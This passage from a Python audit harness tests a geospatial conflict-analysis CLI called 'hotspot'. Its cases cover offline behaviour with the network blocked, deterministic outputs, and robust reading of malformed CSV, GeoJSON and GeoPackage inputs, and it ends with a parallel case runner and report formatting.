        return out("security failure", f"network attempted at import: {hits[:3]}")
    return cli_first(run, [], valid=True) or handled("no network attempt")


@case("network", "analyze-no-network", "hotspot analyze (no PNG) with sockets blocked (issue #15)")
def _(ctx: Ctx) -> Outcome:
    env, log = _blocked_env(ctx)
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, _ = analyze(ctx, path, env=env)
    hits = _attempts(log)
    if hits:
        return out("security failure", f"network attempted: {hits[:3]}")
    return cli_first(run, [path.name], valid=True) or handled("no network attempt")


@case(
    "network",
    "other-commands-no-network",
    "geocode, extract, gaps and analyze --dataset ucdp with sockets blocked",
)
def _(ctx: Ctx) -> Outcome:
    env, log = _blocked_env(ctx)
    report = ctx.write("r.txt", "Clashes near Daquq and Hawija.\n")
    runs = [
        ctx.cli("geocode", "Kirkuk", "Daquq", env=env),
        ctx.cli("extract", report, env=env),
        ctx.cli("gaps", "--out", ctx.p("g"), env=env),
        ctx.cli(
            "analyze",
            "--dataset",
            "ucdp",
            "--out",
            ctx.p("u"),
            "--no-png",
            "-q",
            env=env,
            timeout=300,
        ),
    ]
    hits = _attempts(log)
    if hits:
        return out("security failure", f"network attempted: {hits[:3]}")
    for run in runs:
        first = cli_first(run, [], valid=True)
        if first:
            return first
    return handled("four commands, no network attempt")


@case(
    "network",
    "unshare-no-network",
    "hotspot analyze WITH the PNG in a network namespace without network",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    if not shutil.which("unshare"):
        raise HarnessError("unshare not available")
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    folder = ctx.p("out")
    run = ctx.run(
        [
            "unshare",
            "-n",
            *HOTSPOT,
            "analyze",
            str(path),
            "--out",
            str(folder),
            "--min-samples",
            "5",
        ],
        shown="unshare -n hotspot analyze $T/ev.csv --out $T/out --min-samples 5",
    )
    if "unshare failed" in run.stderr:
        raise HarnessError(run.stderr.strip())
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    return (
        handled("exit 0 with the PNG, offline")
        if (folder / "briefing_map.png").exists()
        else out("silent wrong result", "no PNG offline")
    )


@case(
    "network",
    "fetch-offline-message",
    "hotspot fetch ucdp with the network blocked: a clear message",
)
def _(ctx: Ctx) -> Outcome:
    env, _ = _blocked_env(ctx)
    run = ctx.cli(
        "fetch",
        "ucdp",
        "--version",
        "25.1",
        "--out",
        ctx.p("g.csv"),
        env=env | {"HOTSPOT_CACHE": str(ctx.p("cache"))},
    )
    return cli_first(run, ["ucdp", "download", "--from", "network"]) or out(
        "silent wrong result", "exit 0 with no network"
    )


@case(
    "network",
    "map-offline-resources",
    "briefing_map.html loads nothing from the network (offline map)",
)
def _(ctx: Ctx) -> Outcome:
    run, folder = analyze(ctx, ctx.write("ev.csv", csv_text(base_rows(30))))
    first = cli_first(run, ["ev.csv"], valid=True)
    if first:
        return first
    page = (folder / "briefing_map.html").read_text(encoding="utf-8")
    remote = re.findall(
        r"""<(?:script|img|iframe|link|source|embed)\b[^>]*\b(?:src|href)\s*=\s*["']?(?:https?:)?//[^"'\s>]+"""
        r"""|url\(\s*["']?(?:https?:)?//[^)"']+|["'](?:https?:)?//[^"']*\{[xyz]\}[^"']*""",
        page,
    )  # loads, not links: <a href> (the Leaflet attribution) is a link the reader may click
    if remote:
        return out(
            "silent wrong result",
            f"{len(remote)} remote resource(s) in an 'offline' map: {remote[:3]}",
        )
    return handled("no remote script, style or tile")


# ====================================================================== determinism
_FOLIUM_ID = re.compile(rb"_[0-9a-f]{32}(?![0-9a-f])")


def _dir_digest(
    folder: Path, *, ids: bool = False, skip_hashes: Iterable[str] = ()
) -> dict[str, str]:
    """File -> SHA-256 of its content, with the timestamps named here blanked.

    Named exclusions (timestamps): ``hotspot_manifest.json`` "created";
    ``analysis.gpkg`` is compared by its table contents without
    ``gpkg_contents.last_change`` and ``layer_styles.update_time``. With
    ``ids``, folium's random element ids (``map_<32 hex>``) are blanked too.
    ``skip_hashes`` drops those files' hashes from the manifest.
    """
    skip = set(skip_hashes)
    digests = {}
    for path in sorted(folder.iterdir()):
        if not path.is_file():
            continue
        data = path.read_bytes()
        if path.name == "hotspot_manifest.json":
            manifest = json.loads(data)
            manifest.pop("created", None)
            for name in skip:
                manifest.get("files", {}).get(name, {}).pop("sha256", None)
            data = json.dumps(manifest, sort_keys=True).encode()
        elif path.suffix == ".gpkg":
            with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as con:
                tables = [
                    r[0]
                    for r in con.execute(
                        "select name from sqlite_master where type='table' order by name"
                    )
                ]
                parts = []
                for table in tables:
                    cols = [d[1] for d in con.execute(f'pragma table_info("{table}")')]
                    keep = [
                        c
                        for c in cols
                        if (table, c)
                        not in (("gpkg_contents", "last_change"), ("layer_styles", "update_time"))
                    ]
                    rows = con.execute(
                        f'select {", ".join(chr(34) + c + chr(34) for c in keep)} from "{table}"'
                    ).fetchall()
                    parts.append(repr((table, sorted(map(repr, rows)))))
            data = "\n".join(parts).encode()
        elif ids and path.suffix == ".html":
            data = _FOLIUM_ID.sub(b"_ID", data)
        digests[path.name] = hashlib.sha256(data).hexdigest()
    return digests


def raw_bytes(folder: Path) -> dict[str, str]:
    return {p.name: _sha(p) for p in folder.iterdir() if p.is_file()}


def _determinism_verdict(a: Path, b: Path) -> Outcome:
    """Byte-for-byte comparison of two output folders, the named timestamps excepted."""
    da, db = _dir_digest(a), _dir_digest(b)
    raw = sorted(
        n for n in set(da) | set(db) if da.get(n) != db.get(n) and n != "hotspot_manifest.json"
    )
    if not raw:
        if da.get("hotspot_manifest.json") != db.get("hotspot_manifest.json"):
            return out("silent wrong result", "the manifests differ beyond 'created'")
        return handled(f"{len(da)} files identical (timestamps named in _dir_digest excepted)")
    changed_bytes = [n for n in raw_bytes(a) if raw_bytes(a)[n] != raw_bytes(b).get(n)]
    na, nb = (
        _dir_digest(a, ids=True, skip_hashes=changed_bytes),
        _dir_digest(b, ids=True, skip_hashes=changed_bytes),
    )
    content = sorted(n for n in set(na) | set(nb) if na.get(n) != nb.get(n))
    if content:
        return out("silent wrong result", f"outputs differ in content: {content}")
    return out(
        "silent wrong result",
        f"not byte-for-byte identical: {raw} differ only in folium's random element ids "
        "(map_<32 hex>, a new uuid4 per render), and the manifest only in their hashes; the "
        "content is identical",
    )


@case(
    "determinism",
    "analyze-twice",
    "hotspot analyze twice on the same input, different PYTHONHASHSEED: identical outputs "
    "(except the timestamps named in _dir_digest)",
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(60)))
    a, fa = analyze(ctx, path, out_name="a", env=ctx.env(PYTHONHASHSEED="1"))
    b, fb = analyze(ctx, path, out_name="b", env=ctx.env(PYTHONHASHSEED="2"))
    for run in (a, b):
        first = cli_first(run, [path.name], valid=True)
        if first:
            return first
    return _determinism_verdict(fa, fb)


@case("determinism", "gaps-twice", "hotspot gaps twice (with incidents), different PYTHONHASHSEED")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(60)))
    runs = [
        ctx.cli("gaps", "--incidents", path, "--out", ctx.p(n), env=ctx.env(PYTHONHASHSEED=s))
        for n, s in (("a", "1"), ("b", "2"))
    ]
    for run in runs:
        first = cli_first(run, [path.name], valid=True)
        if first:
            return first
    return _determinism_verdict(ctx.p("a"), ctx.p("b"))


@case("determinism", "geocode-twice", "geocode 400 names twice, different PYTHONHASHSEED")
def _(ctx: Ctx) -> Outcome:
    from hotspot.gazetteer import load_gazetteer

    names = load_gazetteer()["name"].tolist()[::7][:400]
    path = ctx.write("names.txt", "\n".join(names) + "\n")
    runs = [
        ctx.cli("geocode", "--file", path, "--format", "csv", env=ctx.env(PYTHONHASHSEED=s))
        for s in ("1", "2")
    ]
    for run in runs:
        first = cli_first(run, [path.name], valid=True)
        if first:
            return first
    return (
        handled("identical")
        if runs[0].stdout == runs[1].stdout
        else out("silent wrong result", "the two outputs differ")
    )


@case(
    "determinism",
    "extract-twice",
    "extract the bundled sample report twice, different PYTHONHASHSEED",
)
def _(ctx: Ctx) -> Outcome:
    runs = [
        ctx.cli("extract", "--sample", "--format", "geojson", env=ctx.env(PYTHONHASHSEED=s))
        for s in ("1", "2")
    ]
    for run in runs:
        first = cli_first(run, [], valid=True)
        if first:
            return first
    return (
        handled("identical")
        if runs[0].stdout == runs[1].stdout
        else out("silent wrong result", "the two outputs differ")
    )


@case("determinism", "shuffled-rows", "the same incidents in another row order: same hotspots")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(60)
    shuffled = rows[:]
    random.Random(3).shuffle(shuffled)
    a = ctx.write("a.csv", csv_text(rows))
    b = ctx.write("b.csv", csv_text(shuffled))
    ra, fa = analyze(ctx, a, out_name="oa")
    rb, fb = analyze(ctx, b, out_name="ob")
    for run in (ra, rb):
        first = cli_first(run, ["csv"], valid=True)
        if first:
            return first

    def members(folder: Path) -> list[tuple[str, ...]]:
        groups: dict[int, list[str]] = {}
        for r in incidents_out(folder):
            if r.get("hotspot", -1) != -1:
                groups.setdefault(r["hotspot"], []).append(r["id"])
        return sorted(tuple(sorted(g)) for g in groups.values())

    ma, mb = members(fa), members(fb)
    if ma != mb:
        return out(
            "silent wrong result",
            f"hotspot membership depends on row order: {len(ma)} vs {len(mb)} hotspots",
        )
    return handled(f"{len(ma)} hotspots with the same members")


@case(
    "determinism",
    "api-vs-cli",
    "Analysis.write after analyze() and `hotspot analyze` give the same files",
)
def _(ctx: Ctx) -> Outcome:
    from hotspot.analyze import analyze as run_analysis

    path = ctx.write("ev.csv", csv_text(base_rows(60)))
    run, fcli = analyze(ctx, path, out_name="cli")
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    call = ctx.api(
        lambda: run_analysis(path, min_samples=5).write(ctx.p("api"), png=False),
        shown="hotspot.analyze('$T/ev.csv', min_samples=5).write('$T/api', png=False)",
    )
    if call.exc is not None:
        return api_error(call, [], valid=True)
    return _determinism_verdict(fcli, ctx.p("api"))


# ====================================================================== more cases of our own
@case("readers", "id-leading-zeros", "ids with leading zeros (000001) stay as written")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    for i, r in enumerate(rows):
        r["id"] = f"{i + 1:06d}"
    path = ctx.write("zeros.csv", csv_text(rows))
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: (
            None
            if f["id"].tolist()[:2] == ["000001", "000002"]
            else f"ids read as {f['id'].tolist()[:2]}"
        ),
    )


@case("readers", "id-huge-number", "31-digit numeric ids stay exact")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    for i, r in enumerate(rows):
        r["id"] = f"12345678901234567890123456789{i:02d}"
    path = ctx.write("bigids.csv", csv_text(rows))
    want = [r["id"] for r in rows]
    return read_check(
        ctx,
        path,
        12,
        [path.name],
        valid=True,
        check=lambda f: (
            None if f["id"].astype(str).tolist() == want else f"ids read as {f['id'].tolist()[:2]}"
        ),
    )


@case(
    "readers",
    "csv-repeated-header",
    "a header line repeated in the middle (two exports concatenated)",
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    path = ctx.write("concat.csv", raw_csv(rows[:15]) + raw_csv(rows[15:]))
    run, folder = analyze(ctx, path)
    return rows_check(
        run,
        folder,
        [r["id"] for r in rows],
        [path.name, "line 17", "header"],
        warn_words=("line 17", "header"),
        valid=True,
    )


@case(
    "readers",
    "arabic-indic-digits",
    "a date and coordinates in Arabic-Indic digits (٢٠٢٤-٠١-٠٥, ٣٥٫١٣)",
)
def _(ctx: Ctx) -> Outcome:
    rows = _with(base_rows(12), 4, date="٢٠٢٤-٠١-٠٥", latitude="٣٥٫١٣", longitude="٤٤٫٤٥")
    path = ctx.write("digits.csv", csv_text(rows))

    def check(frame: Any) -> str | None:
        g, d = frame.geometry.iloc[4], frame["date"].iloc[4]
        issues = str(frame["issues"].iloc[4])
        if g is not None and not g.is_empty and (round(g.y, 2), round(g.x, 2)) != (35.13, 44.45):
            return f"position read as ({g.y}, {g.x})"
        if not _missing(d) and str(d)[:10] != "2024-01-05":
            return f"date read as {d}"
        if (g is None or g.is_empty or _missing(d)) and not issues:
            return "values dropped without a flag"
        return None

    return read_check(ctx, path, 12, [path.name, "line 6"], check=check)


@case("readers", "csv-wkt-geometry", "positions in a WKT column (a QGIS 'GEOMETRY=AS_WKT' export)")
def _(ctx: Ctx) -> Outcome:
    rows = [{**r, "WKT": f"POINT ({r['longitude']} {r['latitude']})"} for r in base_rows(30)]
    path = ctx.write("wkt.csv", csv_text(rows, ["WKT", "id", "date", "event_type", "notes"]))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "WKT", "coordinates"])
    if first:
        return first

    def located(by_id: dict[str, dict]) -> str | None:
        lost = [i for i, r in by_id.items() if r["_geometry"] is None]
        return f"{len(lost)} of {len(by_id)} rows have no position" if lost else None

    return rows_check(run, folder, [r["id"] for r in rows], [path.name], value_check=located)


@case("readers", "precision-out-of-range", "a precision column holding 0, 7 and 'high'")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    for r, value in zip(rows, ["1", "2", "3", "0", "7", "high"] * 2, strict=True):
        r["precision"] = value
    path = ctx.write("prec.csv", csv_text(rows, [*FIELDS, "precision"]))

    def check(frame: Any) -> str | None:
        bad = [v for v in frame["precision"].iloc[3:6] if not _missing(v) and v not in (1, 2, 3)]
        return f"precision kept as {bad}" if bad else None

    return read_check(
        ctx, path, 12, [path.name, "precision"], check=check, warn_words=("precision",)
    )


@case(
    "readers", "since-before-1677", "--since 1500-01-01 (before the dates a date column can hold)"
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path, "--since", "1500-01-01")
    first = cli_first(run, ["--since", "since", "1500"])
    if first:
        return first
    n = len(incidents_out(folder))
    return (
        handled(f"all {n} incidents kept")
        if n == 30
        else out("silent row loss", f"{n} of 30 incidents kept")
    )


@case("readers", "report-empty", "an empty news report")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("empty_report.txt", "")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name])
    if first:
        return first
    text = run.text + summary_of(folder)
    return (
        handled("a no-incident finding naming the file", run.warned())
        if path.name in text
        else out("vague error", "exit 0; the output does not name the empty report")
    )


@case("readers", "report-latin1", "a Latin-1 news report")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write(
        "latin_report.txt", "Published: 2024-03-01\nClashes near Daquq caf\xe9.\n".encode("latin-1")
    )
    run, _folder = analyze(ctx, path)
    return cli_first(run, [path.name]) or handled("read", run.warned())


@case("geo files", "geojson-epoch-dates", "GeoJSON dates as epoch milliseconds (an ArcGIS export)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [_pt_feature(r) for r in rows]
    for f in feats:
        f["properties"]["date"] = 1704067200000  # 2024-01-01T00:00:00Z
    path = ctx.write("epoch.geojson", _geojson_doc(feats))

    def check(frame: Any) -> str | None:
        days = {str(d)[:10] for d in frame["date"] if not _missing(d)}
        return None if days <= {"2024-01-01"} else f"dates read as {sorted(days)[:3]}"

    return read_check(ctx, path, 12, [path.name, "date"], check=check, need_warning=True)


@case("geo files", "gpkg-utm-with-crs", "incidents in a GeoPackage in UTM 38N (CRS set)")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("utm.gpkg")
    _points_gdf(30, crs=32638).to_file(path)
    ctx.record(path, note="30 points, EPSG:32638")

    def check(frame: Any) -> str | None:
        g = frame.geometry.iloc[0]
        return (
            None
            if abs(g.x - 44.45) < 1e-4 and abs(g.y - 35.13) < 1e-4
            else f"first point at ({g.x}, {g.y})"
        )

    return read_check(ctx, path, 30, [path.name], valid=True, check=check)


@case(
    "geo files",
    "rfc7946-outputs",
    "every GeoJSON analyze writes is RFC 7946 (no crs, lon/lat, counter-clockwise exteriors)",
)
def _(ctx: Ctx) -> Outcome:
    import shapely

    run, folder = analyze(ctx, ctx.write("ev.csv", csv_text(base_rows(60))))
    first = cli_first(run, ["ev.csv"], valid=True)
    if first:
        return first
    problems = []
    for path in sorted(folder.glob("*.geojson")):
        doc = json.loads(path.read_text(encoding="utf-8"))
        if "crs" in doc:
            problems.append(f"{path.name}: a 'crs' member")
        for feature in doc["features"]:
            if feature["geometry"] is None:
                continue
            geom = shapely.geometry.shape(feature["geometry"])
            x0, y0, x1, y1 = geom.bounds
            if not (-180 <= x0 <= x1 <= 180 and -90 <= y0 <= y1 <= 90):
                problems.append(f"{path.name}: coordinates out of lon/lat range")
                break
            polys = (
                shapely.get_parts(geom)
                if geom.geom_type == "MultiPolygon"
                else [geom]
                if geom.geom_type == "Polygon"
                else []
            )
            if any(not p.exterior.is_ccw or any(r.is_ccw for r in p.interiors) for p in polys):
                problems.append(f"{path.name}: a ring against the right-hand rule")
                break
    return (
        out("silent wrong result", "; ".join(problems[:4]))
        if problems
        else handled("every GeoJSON conforms")
    )


@case(
    "geo files",
    "control-areas-buffers",
    "control areas made by buffering each bundled line 20 km away from the other",
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    fed = _bundled_line("federal").to_crs(32638).geometry.iloc[0]
    krg = _bundled_line("krg").to_crs(32638).geometry.iloc[0]
    # both lines run north-west to south-east: the KRG side is on their left (north-east)
    krg_area = shapely.buffer(krg, 20_000, single_sided=True)
    fed_area = shapely.buffer(fed, -20_000, single_sided=True)
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[fed_area], crs=32638).to_crs(4326).to_file(
        ctx.p("fed_buf.geojson")
    )
    gpd.GeoDataFrame({"side": ["krg"]}, geometry=[krg_area], crs=32638).to_crs(4326).to_file(
        ctx.p("krg_buf.geojson")
    )
    ctx.note(
        "inputs: fed_buf.geojson = single-sided 20 km buffer of the bundled federal line on its "
        "south-west side; "
        "krg_buf.geojson = the same for the KRG line on its north-east side"
    )
    run, folder = _gaps(
        ctx, "--federal", ctx.p("fed_buf.geojson"), "--krg", ctx.p("krg_buf.geojson")
    )
    first = cli_first(run, ["fed_buf.geojson", "krg_buf.geojson", "area", "polygon"], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    what = f"areas give {n} zones, {area:.0f} km2; the lines give {ref[0]}, {ref[1]:.0f} km2"
    return handled(what) if abs(area - ref[1]) <= 0.2 * ref[1] else out("silent wrong result", what)


def _option_case(cid: str, args: tuple[str, ...], option: str, *, command: str = "analyze") -> None:
    @case("output folders and faults", cid, f"hotspot {command} {' '.join(args)}")
    def _(ctx: Ctx) -> Outcome:
        if command == "analyze":
            run, _folder = analyze(
                ctx,
                ctx.write("ev.csv", csv_text(base_rows(30))),
                *args,
                png="--png-timeout" in args,
            )
        else:
            run, _folder = _gaps(ctx, *args)
        first = cli_first(run, [option])
        if first:
            return first
        return (
            out("silent wrong result", f"exit 0: {option} {args[-1]} accepted and used")
            if run.rc == 0
            else out("silent wrong result", f"exit {run.rc}")
        )


_option_case("option-eps-nan", ("--eps-m", "nan"), "eps")
_option_case("option-eps-inf", ("--eps-m", "inf"), "eps")
_option_case("option-png-timeout-nan", ("--png-timeout", "nan"), "timeout")
_option_case("option-coverage-nan", ("--coverage-m", "nan"), "coverage", command="gaps")
_option_case("option-spacing-inf", ("--spacing-m", "inf"), "spacing", command="gaps")


@case(
    "load",
    "option-spacing-tiny",
    "hotspot gaps --spacing-m 1 (a profile station every metre, ~500,000)",
    timeout=300,
    heavy=True,
)
def _(ctx: Ctx) -> Outcome:
    run = ctx.cli("gaps", "--spacing-m", "1", "--out", ctx.p("g"), timeout=240)
    first = cli_first(run, ["--spacing-m", "spacing"], valid=True)
    if first:
        return first
    return handled(f"{run.seconds:.0f} s, peak RSS {run.maxrss_mb:.0f} MB")


@case("output folders and faults", "analyze-two-tables", "hotspot analyze a.csv b.csv (two tables)")
def _(ctx: Ctx) -> Outcome:
    a = ctx.write("a.csv", csv_text(base_rows(30)))
    b = ctx.write("b.csv", csv_text(base_rows(30)))
    run, _ = analyze(ctx, a, b)
    return cli_first(run, ["a.csv", "b.csv"]) or out("silent wrong result", "ran on one of them")


@case(
    "geo files",
    "control-gpkg-two-layers",
    "--federal given a GeoPackage with two layers (a draft and the line)",
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    path = ctx.p("fed_layers.gpkg")
    gpd.GeoDataFrame(
        {"side": ["federal"]},
        geometry=[shapely.LineString([(44.0, 35.0), (44.01, 35.01)])],
        crs=4326,
    ).to_file(path, layer="draft")
    _bundled_line("federal").to_file(path, layer="federal_line")
    ctx.record(
        path, note="layer draft: a 1.4 km stub; layer federal_line: the bundled federal line"
    )
    run, folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name, "layer", "draft"])
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    if abs(area - ref[1]) <= 0.01 * ref[1]:
        return handled(f"the line layer was used: {n} zones", run.warned("layer"))
    if run.warned("layer"):
        return handled(f"{n} zones, {area:.0f} km2 from one layer, with a warning naming it", True)
    return out(
        "silent wrong result",
        f"the other layer used without a word: {n} zones, {area:.0f} km2 vs {ref[1]:.0f}",
    )


@case("geocoding", "gazetteer-not-csv", "--gazetteer given a GeoJSON file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("places.geojson")
    _points_gdf(3).to_file(path)
    ctx.record(path)
    run = ctx.cli("geocode", "--gazetteer", path, "Kirkuk")
    return cli_first(run, [path.name]) or out(
        "silent wrong result", "a GeoJSON read as a gazetteer CSV"
    )


@case(
    "network",
    "fetch-corrupt-cache",
    "hotspot fetch ucdp with a corrupt file in the cache (network blocked)",
)
def _(ctx: Ctx) -> Outcome:
    env, _ = _blocked_env(ctx)
    cache = ctx.p("cache")
    ctx.write(
        "cache/ucdp/ged251-csv.zip",
        b"PK\x03\x04 this is not a zip archive",
        note="planted in $HOTSPOT_CACHE",
    )
    run = ctx.cli(
        "fetch",
        "ucdp",
        "--version",
        "25.1",
        "--out",
        ctx.p("g.csv"),
        env=env | {"HOTSPOT_CACHE": str(cache)},
    )
    first = cli_first(run, ["ged251-csv.zip", "cache", "checksum", "sha256", "--refresh"])
    if first:
        return first
    return out("silent wrong result", "a corrupt cached file was used")


@case("network", "fetch-from-junk", "hotspot fetch ucdp --from a file that is not a GED release")
def _(ctx: Ctx) -> Outcome:
    junk = ctx.write("ged.zip", b"not a zip")
    run = ctx.cli("fetch", "ucdp", "--from", junk, "--out", ctx.p("g.csv"))
    return cli_first(run, [junk.name]) or out("silent wrong result", "junk accepted")


@case(
    "geocoding",
    "geonames-dump-malformed",
    "hotspot fetch geonames --from a dump with too few columns",
)
def _(ctx: Ctx) -> Outcome:
    dump = ctx.write("IQ.txt", "99999001\tTall Audit\t35.2\t44.1\n")
    run = ctx.cli("fetch", "geonames", "--from", dump, "--out", ctx.p("g.csv"))
    first = cli_first(run, [dump.name, "line 1", "column"])
    if first:
        return first
    return (
        handled("the line skipped and counted", True)
        if "skipped" in run.stdout
        else out("silent row loss", "a malformed line vanished")
    )


@case(
    "geo files",
    "control-line-stub",
    "a 1.4 km federal line facing the whole bundled KRG line, 77 km away",
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    path = ctx.p("stub.geojson")
    gpd.GeoDataFrame(
        {"side": ["federal"]},
        geometry=[shapely.LineString([(44.0, 35.0), (44.01, 35.01)])],
        crs=4326,
    ).to_file(path)
    ctx.record(path)
    run, folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name, "federal", "face"])
    if first:
        return first
    n, area = _zones_area(folder)
    # a corridor facing 1.4 km of front, 78 km across at most, holds ~110 km2; allow twice that
    limit = 1.4 * 78 * 2
    what = (
        f"{n} zones, {area:,.0f} km2 along 1.4 km of front (at most ~{limit:.0f} km2 can face it)"
    )
    if area > limit:
        return handled(what, True) if run.warned() else out("silent wrong result", what)
    return handled(what)


@case(
    "geo files",
    "control-line-half",
    "the first half of the bundled federal line facing the whole KRG line",
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    line = _bundled_line("federal").geometry.iloc[0]
    half = shapely.ops.substring(line, 0, line.length / 2)
    path = ctx.p("half.geojson")
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[half], crs=4326).to_file(path)
    ctx.record(path, note="the north-western half of the bundled federal line")
    run, folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name, "federal"], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    what = (
        f"half the front gives {n} zones, {area:,.0f} km2; "
        f"the whole front {ref[0]} zones, {ref[1]:,.0f} km2"
    )
    return handled(what) if 0 < area <= ref[1] * 1.05 else out("silent wrong result", what)


# ====================================================================== running
def _child(case_: Case, root: Path, fd: int) -> None:
    """Run one case in the forked child and send the result to the parent."""
    global CASE_ROOT
    os.setpgid(0, 0)
    CASE_ROOT = root
    ctx = Ctx(root)
    os.chdir(root)
    try:
        outcome = case_.fn(ctx)
        if not isinstance(outcome, Outcome) or outcome.category not in CATEGORIES:
            raise HarnessError(f"the case returned {outcome!r}")
        payload = {"category": outcome.category, "reason": ctx.show(outcome.reason)}
    except HarnessError as exc:
        payload = {"category": "not run", "reason": str(exc)}
    except Exception:
        payload = {"category": "harness error", "reason": traceback.format_exc()[-1500:]}
    payload |= {"steps": ctx.steps, "inputs": ctx.inputs}
    data = json.dumps(payload).encode()
    with os.fdopen(fd, "wb") as fh:
        fh.write(data)
    os._exit(0)


@dataclass
class _Running:
    case: Case
    pid: int
    fd: int
    root: Path
    start: float
    chunks: list[bytes] = field(default_factory=list)


def run_cases(
    cases: list[Case], *, jobs: int, keep: Path | None, progress: Callable[[Result], None]
) -> list[Result]:
    """Run cases in forked children, at most ``jobs`` at a time, each under its time limit."""
    pending = list(cases)
    running: dict[int, _Running] = {}
    results: list[Result] = []
    base = Path(tempfile.mkdtemp(prefix="hotspot-audit-", dir=keep))
    while pending or running:
        while pending and len(running) < jobs:
            case_ = pending.pop(0)
            root = base / f"case{len(results) + len(running):03d}"  # neutral: no word for anchors
            root.mkdir()
            read_fd, write_fd = os.pipe()
            sys.stdout.flush()
            sys.stderr.flush()
            pid = os.fork()
            if pid == 0:  # the child
                os.close(read_fd)
                _child(case_, root, write_fd)
            os.close(write_fd)
            running[read_fd] = _Running(case_, pid, read_fd, root, time.perf_counter())
        now = time.perf_counter()
        wait = min(r.start + r.case.timeout - now for r in running.values())
        ready, _, _ = select.select(list(running), [], [], max(0.0, min(wait, 1.0)))
        finished = []
        for fd in ready:
            chunk = os.read(fd, 1 << 16)
            if chunk:
                running[fd].chunks.append(chunk)
            else:
                finished.append(fd)
        for fd, r in running.items():
            if fd not in finished and time.perf_counter() - r.start > r.case.timeout:
                with contextlib.suppress(OSError):
                    os.killpg(r.pid, signal.SIGKILL)
                finished.append(fd)
        for fd in finished:
            r = running.pop(fd)
            os.close(fd)
            os.waitpid(r.pid, 0)
            seconds = time.perf_counter() - r.start
            try:
                payload = json.loads(b"".join(r.chunks))
            except ValueError:
                payload = {
                    "category": "timeout",
                    "reason": f"no result within the case's {r.case.timeout:.0f} s limit",
                    "steps": [],
                    "inputs": [],
                }
            result = Result(
                r.case,
                payload["category"],
                payload["reason"],
                seconds,
                payload["steps"],
                payload["inputs"],
            )
            results.append(result)
            progress(result)
            if keep is None:
                shutil.rmtree(r.root, ignore_errors=True)
    if keep is None:
        shutil.rmtree(base, ignore_errors=True)
    order = {c.id: i for i, c in enumerate(cases)}
    return sorted(results, key=lambda r: order[r.case.id])


def printable(text: str) -> str:
    """Text with terminal controls and bidi overrides shown as escapes (safe to cat)."""
    return TERMINAL_BAD.sub(lambda m: m.group().encode("unicode_escape").decode(), text)


def table(results: list[Result]) -> str:
    counts = Counter(r.category for r in results)
    head = "| " + " | ".join(CATEGORIES) + " |"
    rule = "|" + "---|" * len(CATEGORIES)
    row = "| " + " | ".join(str(counts.get(c, 0)) for c in CATEGORIES) + " |"
    lines = [head, rule, row]
    other = {k: v for k, v in counts.items() if k not in CATEGORIES}
    if other:
        lines.append(f"(not counted above: {dict(other)})")
    return "\n".join(lines)


def group_table(results: list[Result]) -> str:
    short = ["ok", "clear", "warn", "vague", "wrong", "loss", "trace", "time", "sec"]
    lines = [f"{'group':28s} " + " ".join(f"{s:>5s}" for s in short) + "  total"]
    for group in GROUPS:
        mine = [r for r in results if r.case.group == group]
        if not mine:
            continue
        counts = Counter(r.category for r in mine)
        lines.append(
            f"{group:28s} "
            + " ".join(f"{counts.get(c, 0):5d}" for c in CATEGORIES)
            + f"  {len(mine):5d}"
        )
    return "\n".join(lines)


def listing(results: list[Result]) -> str:
    width = max(len(r.case.id) for r in results)
    lines = []
    for r in results:
        reason = " ".join(r.reason.split())
        lines.append(f"{r.case.id:{width}s}  {r.category:19s}  {reason[:220]}")
    return "\n".join(lines)


def reproductions(results: list[Result]) -> str:
    blocks = []
    for r in results:
        if r.category in PASSING:
            continue
        block = [
            f"### {r.case.id} [{r.category}] ({r.case.group})",
            f"case: {r.case.title}",
            f"observed: {r.reason}",
        ]
        if r.inputs:
            block.append("input:")
            block += ["  " + line for text in r.inputs for line in text.splitlines()]
        if r.steps:
            block.append("commands ($T is the case's temporary folder):")
            block += [f"  {s}" for s in r.steps if not s.startswith(("setup:",))] + [
                f"  ({s})" for s in r.steps if s.startswith("setup:")
            ]
        blocks.append("\n".join(block))
    return "\n\n".join(blocks)


def main(argv: list[str] | None = None) -> int:
    global HOTSPOT_PKG
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument(
        "report", nargs="?", type=Path, help="write the table, listing and reproductions here"
    )
